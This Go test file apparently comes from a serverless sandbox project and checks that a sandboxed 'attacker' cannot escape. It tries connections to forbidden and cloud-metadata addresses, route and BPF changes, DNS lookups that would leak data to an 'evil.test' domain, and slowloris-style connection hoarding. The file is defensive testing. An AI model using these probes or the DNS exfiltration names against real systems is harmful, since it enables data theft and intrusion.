//go:build linux

package linux

import (
	"context"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/ebb-faas/ebb/internal/sandbox"
	"github.com/ebb-faas/ebb/internal/sandbox/sandboxtest"
)

// breakout is an attacker that may connect to one server of the test, and what it may not.
type breakout struct {
	*escape
	allowed string       // the one target
	secret  string       // port of a server that nobody may reach
	reached atomic.Int64 // how often it was
	said    lines
}

func openBreakout(t *testing.T, e *escape) *breakout {
	t.Helper()
	if e.Driver.(*Driver).reports == nil {
		t.Skipf("this kernel has no socket-lookup programs: %q", e.Driver.Level().Missing)
	}
	w := &breakout{escape: e}
	w.allowed = "127.0.0.1:" + serveTCP(t, func(c net.Conn) { _, _ = io.Copy(c, c) })
	w.secret = serveTCP(t, func(net.Conn) { w.reached.Add(1) })
	return w
}

func (w *breakout) attacker(t *testing.T) sandbox.Box {
	t.Helper()
	box := w.box(t, "attacker", sandbox.Limits{MemoryMB: 256})
	if err := box.SetEgress(context.Background(), allow(t, w.allowed+",udp/"+w.allowed), w.said.add); err != nil {
		t.Fatal(err)
	}
	return box
}

// attackEgress: with one door open the others stay shut.
func attackEgress(t *testing.T, e *escape) {
	w := openBreakout(t, e)
	targets := []string{"tcp", w.allowed, "tcp", "127.0.0.1:" + w.secret, "tcp", "[::1]:" + w.secret, "tcp", "[::ffff:127.0.0.1]:" + w.secret,
		"tcp", "127.1.2.3:" + w.secret, "tcp", "0.0.0.0:" + w.secret, "tcp", sharedNeighbour,
		"tcp", "169.254.169.254:80", "tcp", "[fd00:ec2::254]:80", "tcp", "198.18.0.1:80", "tcp", "203.0.113.1:443",
		"udp", "203.0.113.1:53", "udp", "127.0.0.1:" + w.secret, "udp", "224.0.0.1:5353", "udp", "255.255.255.255:67"}
	own, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range own {
		if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() && !ip.IP.IsLinkLocalUnicast() {
			targets = append(targets, "tcp", net.JoinHostPort(ip.IP.String(), w.secret))
		}
	}
	box := w.attacker(t)
	defer box.Destroy()
	refusals(t, e.tryIn(t, box, append([]string{"dial"}, targets...)...), 12, map[string]string{
		"dial " + w.allowed: "ok",
		"":                  refused + "|network is unreachable|cannot assign requested address|" + eacces + "|invalid argument|.*i/o timeout"})
	if n := w.reached.Load(); n != 0 {
		t.Errorf("the secret server was reached %d times", n)
	}
}

// sharedNeighbour is where the neighbour listens, in its own network.
const sharedNeighbour = "127.0.0.1:8477"

// attackRoutes: the network that the box has cannot be changed from inside.
func attackRoutes(t *testing.T, e *escape) {
	w := openBreakout(t, e)
	box := w.attacker(t)
	defer box.Destroy()
	want := map[string]string{"": eperm, "low port": eacces, "forwarding": erofs + "|" + eacces + "|" + enoent,
		"attach a filter of BPF": eperm + "|bad file descriptor|invalid argument"}
	if e.root != "" { // its servers listen where they like
		want["low port"] = "ok"
	}
	refusals(t, e.tryIn(t, box, "routes"), 15, want)
}

// attackNames: a name is no way to tell somebody something.
func attackNames(t *testing.T, e *escape) {
	w := openBreakout(t, e)
	box := w.attacker(t)
	defer box.Destroy()
	got := e.tryIn(t, box, "lookup", "secret-data.evil.test", "localhost.evil.test", strings.Repeat("x", 60)+".evil.test", "metadata.google.internal")
	refusals(t, got, 4, map[string]string{"": ".*no such host"})
	sandboxtest.Eventually(t, "it is said", func() bool { return w.said.has("denied name secret-data.evil.test") })
}

// relayLoris: connections that stand about cost their own box, and end with it.
func relayLoris(t *testing.T, e *escape) {
	w := openBreakout(t, e)
	box := w.attacker(t)
	got := e.tryIn(t, box, "loris", w.allowed, "600")
	if got["opened"] == "" {
		t.Errorf("nothing was tried: %v", got)
	}
	if n := box.Usage().Egress.Connections; n > 256 {
		t.Errorf("%d connections were made", n)
	}
	box.Destroy()
	sandboxtest.Eventually(t, "all is closed", func() bool { return e.Driver.(*Driver).Egress().Open == 0 })
}
